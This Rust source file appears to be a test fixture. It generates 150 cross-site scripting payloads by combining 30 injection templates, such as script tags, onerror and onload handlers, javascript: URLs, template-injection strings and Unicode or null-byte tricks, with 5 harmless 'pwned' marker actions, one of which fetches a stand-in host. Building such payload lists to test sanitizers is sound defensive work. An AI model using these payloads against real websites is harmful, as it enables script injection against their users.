//! 150 texts that try to become a script: ways in, times what to do once in.

/// Each `@` becomes the act.
const WAYS: [&str; 30] = [
    "<script>@</script>",
    "</script><script>@</script>",
    "</ScRiPt ><script>@</script>",
    "<!--<script>@</script>",
    "--><script>@</script>",
    "<img src=x onerror=\"@\">",
    "\"><img src=x onerror='@'>",
    "'><svg onload=@>",
    "<svg><script>@</script></svg>",
    "<body onload=@>",
    "<iframe srcdoc=\"<script>parent.@</script>\"></iframe>",
    "<a href=\"javascript:@\" autofocus onfocus=@>x</a>",
    "javascript:@//",
    "<details open ontoggle=@>",
    "</title><script>@</script>",
    "</style><script>@</script>",
    "</textarea><img src onerror=@>",
    "<math><mtext><img src=x onerror=@></mtext></math>",
    "\u{2028}@\u{2029}",
    "\\u003cscript\\u003e@\\u003c/script\\u003e",
    "&lt;script&gt;@&lt;/script&gt;",
    "\u{202e}<script>@</script>\u{202c}",
    "\0<script\0>@</script>",
    "];@;[",
    "\"};@;({\"",
    "{{constructor.constructor('@')()}}",
    "${@}",
    "<template><script>@</script></template>",
    "<base href=//x/><link rel=stylesheet href=data:,@>",
    "@@DATA@@<object data=\"javascript:@\"></object>",
];

const ACTS: [&str; 5] = [
    "document.title='pwned'",
    "top.document.title=`pwned`",
    "document.body.innerText='pwned';document.title='pwned'",
    "fetch('//x/pwned')&&(document.title='pwned')",
    "setTimeout('document.title=\"pwned\"')",
];

pub(super) fn payloads() -> Vec<String> {
    let all = WAYS.iter().flat_map(|way| ACTS.iter().map(|act| way.replace('@', act)));
    all.collect()
}
